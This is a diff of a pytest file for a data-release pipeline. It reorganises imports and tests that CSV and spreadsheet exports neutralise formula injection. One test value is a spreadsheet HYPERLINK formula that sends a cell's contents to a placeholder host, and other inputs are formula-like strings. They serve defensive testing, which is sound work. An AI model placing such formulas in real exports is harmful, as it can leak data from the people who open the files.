@@ -19,8 +19,11 @@ import pytest
 from test_release import YEAR, build_warehouse, fake_exports
 
 from dagster_project.lib.csv_safety import neutralise, neutralise_row
-from dagster_project.release import freeze as rel
-from dagster_project.release.freeze import freeze, verify
+from dagster_project.release import freeze as freeze_module
+from dagster_project.release.diff import ValueChange, write_diff_csv
+from dagster_project.release.freeze import freeze
+from dagster_project.release.manifest import VALUES_CSV_FORMAT, sha256_file, values_sha256
+from dagster_project.release.verify import verify
 
 FORMULA = '=HYPERLINK("http://exemple.invalid/?"&A1;"cliquez ici")'
 
@@ -65,7 +68,7 @@ def test_only_text_is_neutralised():
 
 @pytest.fixture
 def con(tmp_path, monkeypatch):
-    monkeypatch.setattr(rel, "_write_exports", fake_exports)
+    monkeypatch.setattr(freeze_module, "_write_exports", fake_exports)
     connection = duckdb.connect(str(build_warehouse(tmp_path / "w.duckdb")))
     connection.execute(
         "update marts.fct_indicator_values set comment = ? "
@@ -97,8 +100,8 @@ def test_values_csv_neutralises_text_and_keeps_the_original_in_parquet(con, tmp_
         "select comment from read_parquet(?) where indicator_id = 'declared_budget'", [parquet]
     ).fetchone() == (FORMULA,)
     manifest = json.loads((release.folder / "manifest.json").read_text(encoding="utf-8"))
-    assert manifest["values_csv_format"] == rel.VALUES_CSV_FORMAT == 2
-    assert rel.sha256_file(release.folder / "values.csv") == manifest["values_sha256"]
+    assert manifest["values_csv_format"] == VALUES_CSV_FORMAT == 2
+    assert sha256_file(release.folder / "values.csv") == manifest["values_sha256"]
     assert verify(con, tmp_path / "releases").intact
 
 
@@ -106,15 +109,15 @@ def test_a_release_frozen_before_the_neutralisation_still_verifies(con, tmp_path
     """Frozen with the earlier rendering (no ``values_csv_format`` in its manifest: text as
     it is), it is re-rendered that way by ``kpi verify``: intact, and still tamper-evident."""
     releases = tmp_path / "releases"
-    monkeypatch.setattr(rel, "VALUES_CSV_FORMAT", 1)  # the code before the change
+    monkeypatch.setattr(freeze_module, "VALUES_CSV_FORMAT", 1)  # the code before the change
     v1 = freeze(con, YEAR, releases)
-    monkeypatch.setattr(rel, "VALUES_CSV_FORMAT", 2)
+    monkeypatch.setattr(freeze_module, "VALUES_CSV_FORMAT", 2)
     manifest = json.loads((v1.folder / "manifest.json").read_text(encoding="utf-8"))
     assert "values_csv_format" not in manifest
     assert _rows(v1.folder / "values.csv")[("declared_budget", "")]["comment"] == FORMULA
     # rendered today's way, its values would not give the hash recorded at the freeze
-    assert rel.values_sha256(con, v1.release_id) != manifest["values_sha256"]
-    assert rel.values_sha256(con, v1.release_id, 1) == manifest["values_sha256"]
+    assert values_sha256(con, v1.release_id) != manifest["values_sha256"]
+    assert values_sha256(con, v1.release_id, 1) == manifest["values_sha256"]
     result = verify(con, releases)
     assert result.intact, result.problems
 
@@ -140,10 +143,10 @@ def test_a_release_frozen_before_the_neutralisation_still_verifies(con, tmp_path
 
 def test_kpi_diff_csv(tmp_path):
     path = tmp_path / "diff.csv"
-    change = rel.ValueChange(
+    change = ValueChange(
         "modifiée", "=x", None, -3.5, 2.0, "-", "eur", label="+ de 2 500", commune=None
     )
-    rel.write_diff_csv([change], path)
+    write_diff_csv([change], path)
     with path.open(encoding="utf-8", newline="") as handle:
         [_, row] = list(csv.reader(handle))
     assert row == [
@@ -170,7 +173,7 @@ def test_notice_of_values_to_confirm(tmp_path):
 
 
 def test_reminders_journal(tmp_path):
-    from dagster_project.campaign.status import record_reminder
+    from dagster_project.campaign.mail import record_reminder
 
     journal = record_reminder(
         tmp_path,
@@ -189,7 +192,8 @@ def test_reminders_journal(tmp_path):
 
 
 def test_status_workbook_keeps_text_as_text(tmp_path):
-    from dagster_project.campaign.status import StatusRow, export_status_xlsx
+    from dagster_project.campaign.status import StatusRow
+    from dagster_project.campaign.status_report import export_status_xlsx
 
     row = StatusRow(year=2025, department="water", source_id="eau_udi", owner="=1+1")
     path = export_status_xlsx([row], tmp_path / "etat.xlsx")
